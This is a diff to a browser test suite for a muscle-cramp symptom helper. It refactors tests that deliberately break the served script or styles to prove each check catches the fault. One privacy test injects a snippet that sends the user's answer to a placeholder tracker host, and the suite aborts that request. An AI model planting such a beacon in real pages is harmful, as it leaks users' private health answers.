@@ -14,6 +14,8 @@ from __future__ import annotations
 import dataclasses
 import json
 import re
+from contextlib import contextmanager
+from typing import Callable
 from urllib.parse import urlsplit
 
 import pytest
@@ -70,6 +72,25 @@ def open_helper(tab, url: str, palette: str = "light"):
     open_page(tab, url + "movements/", palette)
     tab.wait_for_selector(f"{ROOT}[data-movement-helper-started]")
     return tab
+
+
+# What the server sends changed, so a check can be proven to fail: (address pattern, content type).
+SCRIPT = (r".*/movement-helper\.js$", "application/javascript")
+STYLES = (r".*/movement-helper\.css$", "text/css")
+PAGE_ITSELF = (r".*/movements/$", "text/html; charset=utf-8")
+
+
+@contextmanager
+def served_changed(browser, file: tuple[str, str], change: Callable[[str], str], **options):
+    """A browser context in which FILE reaches the page as CHANGE makes it."""
+    context = browser.new_context(**options)
+    pattern, content_type = file
+    context.route(re.compile(pattern),
+                  lambda route: route.fulfill(body=change(route.fetch().text()), content_type=content_type))
+    try:
+        yield context
+    finally:
+        context.close()
 
 
 def focus_helper(tab):
@@ -184,20 +205,11 @@ def test_the_paths_cover_every_outcome_and_every_sign():
 
 def test_path_check_catches_a_script_that_goes_the_wrong_way(browser, site_server):
     """The same check on a page whose embedded data sends "gripped hard" to the spasm outcome."""
-    context = browser.new_context()
-    def swap(route):
-        body = route.fetch().text().replace('"id":"gripped","text":"The muscle is gripped hard, and the pain '
-                                            'can be sharp.","next":"cramp"',
-                                            '"id":"gripped","text":"The muscle is gripped hard, and the pain '
-                                            'can be sharp.","next":"spasm"')
-        route.fulfill(body=body, content_type="text/html; charset=utf-8")
-    context.route(re.compile(r".*/movements/$"), swap)
-    try:
+    gripped = '"id":"gripped","text":"The muscle is gripped hard, and the pain can be sharp.","next":'
+    with served_changed(browser, PAGE_ITSELF, lambda body: body.replace(gripped + '"cramp"', gripped + '"spasm"')) as context:
         tab = open_helper(context.new_page(), site_server)
         walk = next(w for w in QUESTION_WALKS if w.outcome == "cramp")
         text = "\n".join(walk_problems(tab, walk))
-    finally:
-        context.close()
     assert "the helper ends at 'spasm', but the data says 'cramp'" in text, text
 
 
@@ -229,40 +241,31 @@ def test_on_a_phone_each_tapped_answer_brings_its_question_into_view(tabs, site_
 
 
 def test_view_check_catches_a_question_hidden_under_the_header(browser, site_server):
-    context = browser.new_context(viewport={"width": 375, "height": 740})
-    def no_margin(route):
+    def no_margin(styles):
         # Room below the helper, so a new question can scroll to the very top (the helper sits at the
         # page's end, where the page cannot scroll that far). The header is made as tall as the top of
         # the screen where a short step leaves the next question: with no scroll margin, nothing
         # moves the question out from under it (focus scrolls only a question that is off screen).
-        body = (re.sub(r"scroll-margin-top: ?4rem;?", "", route.fetch().text())
+        return (re.sub(r"scroll-margin-top: ?4rem;?", "", styles)
                 + "\n.movement-helper { margin-bottom: 100vh; }\n.md-header { height: 60vh !important; }")
-        route.fulfill(body=body, content_type="text/css")
-    context.route(re.compile(r".*/movement-helper\.css$"), no_margin)
-    try:
+    with served_changed(browser, STYLES, no_margin, viewport={"width": 375, "height": 740}) as context:
         tab = open_helper(context.new_page(), site_server)
         text = "\n".join(tapping_problems(tab, QUESTION_WALKS[0]))
-    finally:
-        context.close()
     assert "after a tap, the new question is hidden under the page's header or off screen" in text, text
 
 
 def test_path_check_catches_focus_that_does_not_move(browser, site_server):
-    context = browser.new_context()
-    def no_focus(route):
-        # The published script is minified: match with or without spaces.
-        body = re.sub(r"if ?\(moveFocus\) ?parts\.heading\.focus\(\);", "", route.fetch().text())
-        route.fulfill(body=body, content_type="application/javascript")
-    context.route(re.compile(r".*/movement-helper\.js$"), no_focus)
-    try:
-        tab = open_helper(context.new_page(), site_server)
-        text = "\n".join(walk_problems(tab, QUESTION_WALKS[0]))
-    finally:
-        context.close()
+    # The published script is minified: match with or without spaces.
+    no_focus = lambda script: re.sub(r"if ?\(moveFocus\) ?parts\.heading\.focus\(\);", "", script)
+    with served_changed(browser, SCRIPT, no_focus) as context:
+        text = "\n".join(walk_problems(open_helper(context.new_page(), site_server), QUESTION_WALKS[0]))
     assert "focus did not move to the new question" in text, text
 
 
 # --- A double click or double tap answers one question ------------------------------------------
+
+PHONE = {"viewport": {"width": 390, "height": 844}, "has_touch": True, "is_mobile": True}
+
 
 def double_activation_problems(tab) -> list[str]:
     """Double-click "No", then double-tap "Continue" and the first answer to "What do you feel?":
@@ -291,7 +294,7 @@ def double_activation_problems(tab) -> list[str]:
 
 
 def test_a_double_click_or_double_tap_answers_one_question(browser, site_server):
-    context = browser.new_context(viewport={"width": 390, "height": 844}, has_touch=True, is_mobile=True)
+    context = browser.new_context(**PHONE)
     try:
         problems = double_activation_problems(open_helper(context.new_page(), site_server))
     finally:
@@ -300,15 +303,9 @@ def test_a_double_click_or_double_tap_answers_one_question(browser, site_server)
 
 
 def test_double_activation_check_catches_a_script_that_answers_twice(browser, site_server):
-    context = browser.new_context(viewport={"width": 390, "height": 844}, has_touch=True, is_mobile=True)
-    def no_guard(route):
-        body = re.sub(r"if ?\(event\.detail ?> ?1\)", "if (false)", route.fetch().text())
-        route.fulfill(body=body, content_type="application/javascript")
-    context.route(re.compile(r".*/movement-helper\.js$"), no_guard)
-    try:
+    no_guard = lambda script: re.sub(r"if ?\(event\.detail ?> ?1\)", "if (false)", script)
+    with served_changed(browser, SCRIPT, no_guard, **PHONE) as context:
         text = "\n".join(double_activation_problems(open_helper(context.new_page(), site_server)))
-    finally:
-        context.close()
     assert "the second tap answered the next question too" in text or "a double click on" in text, text
 
 
@@ -357,15 +354,9 @@ def test_ticked_signs_are_still_ticked_after_going_back(tabs, site_server):
 
 
 def test_back_check_catches_a_script_that_ignores_the_back_button(browser, site_server):
-    context = browser.new_context()
-    def no_popstate(route):
-        body = route.fetch().text().replace('window.addEventListener("popstate"', '(function () {})("popstate"')
-        route.fulfill(body=body, content_type="application/javascript")
-    context.route(re.compile(r".*/movement-helper\.js$"), no_popstate)
-    try:
+    no_popstate = lambda script: script.replace('window.addEventListener("popstate"', '(function () {})("popstate"')
+    with served_changed(browser, SCRIPT, no_popstate) as context:
         text = "\n".join(back_problems(open_helper(context.new_page(), site_server)))
-    finally:
-        context.close()
     assert "the browser's Back button shows 'hurts', not the question before" in text, text
 
 
@@ -459,21 +450,14 @@ def test_nothing_leaves_127_0_0_1_and_nothing_is_stored(browser, site_server):
 
 
 def test_privacy_check_catches_a_helper_that_sends_an_answer(browser, site_server):
-    context = browser.new_context()
-    requests = record_requests(context)
-    def leak(route):
-        body = re.sub(r"Helper\.prototype\.go ?= ?function ?\(state\) ?\{",
-                      "Helper.prototype.go = function (state) { new Image().src = "
-                      "'https://tracker.example.com/?a=' + state.step;", route.fetch().text())
-        route.fulfill(body=body, content_type="application/javascript")
-    context.route(re.compile(r".*/movement-helper\.js$"), leak)
-    context.route("https://tracker.example.com/**", lambda route: route.abort())
-    try:
-        tab = open_helper(context.new_page(), site_server)
-        walk_problems(tab, QUESTION_WALKS[0])
+    leak = lambda script: re.sub(r"Helper\.prototype\.go ?= ?function ?\(state\) ?\{",
+                                 "Helper.prototype.go = function (state) { new Image().src = "
+                                 "'https://tracker.example.com/?a=' + state.step;", script)
+    with served_changed(browser, SCRIPT, leak) as context:
+        requests = record_requests(context)
+        context.route("https://tracker.example.com/**", lambda route: route.abort())
+        walk_problems(open_helper(context.new_page(), site_server), QUESTION_WALKS[0])
         text = "\n".join(privacy_problems(context, requests, urlsplit(site_server).hostname, PLACE))
-    finally:
-        context.close()
     assert "The browser contacted tracker.example.com" in text, text
 
 
@@ -607,15 +591,9 @@ def test_no_sideways_scrolling_at_320px_at_any_step(tabs, site_server):
 
 
 def test_sideways_check_catches_a_helper_wider_than_the_screen(browser, site_server):
-    context = browser.new_context(viewport={"width": 320, "height": 640})
-    def wide(route):
-        route.fulfill(body=route.fetch().text() + "\n.movement-helper__answer { width: 400px; }", content_type="text/css")
-    context.route(re.compile(r".*/movement-helper\.css$"), wide)
-    try:
-        tab = open_helper(context.new_page(), site_server)
-        text = "\n".join(sideways_scroll_problems(tab, PLACE))
-    finally:
-        context.close()
+    wide = lambda styles: styles + "\n.movement-helper__answer { width: 400px; }"
+    with served_changed(browser, STYLES, wide, viewport={"width": 320, "height": 640}) as context:
+        text = "\n".join(sideways_scroll_problems(open_helper(context.new_page(), site_server), PLACE))
     assert f"{PLACE}: The page scrolls sideways; too wide: button.movement-helper__answer" in text, text
 
 
@@ -683,15 +661,9 @@ def test_a_ticked_urgent_leg_keeps_its_advice_in_the_cramp_outcome(tabs, site_se
 
 
 def test_urgent_leg_check_catches_an_outcome_that_forgets_the_ticked_sign(browser, site_server):
-    context = browser.new_context()
-    def forget(route):  # the outcome is told no sign was ticked
-        body = re.sub(r"\b\w+\.signs ?\|\| ?\[\]", "[]", route.fetch().text())
-        route.fulfill(body=body, content_type="application/javascript")
-    context.route(re.compile(r".*/movement-helper\.js$"), forget)
-    try:
+    forget = lambda script: re.sub(r"\b\w+\.signs ?\|\| ?\[\]", "[]", script)  # the outcome is told no sign was ticked
+    with served_changed(browser, SCRIPT, forget) as context:
         text = "\n".join(urgent_leg_outcome_problems(context.new_page(), site_server))
-    finally:
-        context.close()
     assert "does not repeat the urgent advice" in text and "offers self-care" in text, text
 
 
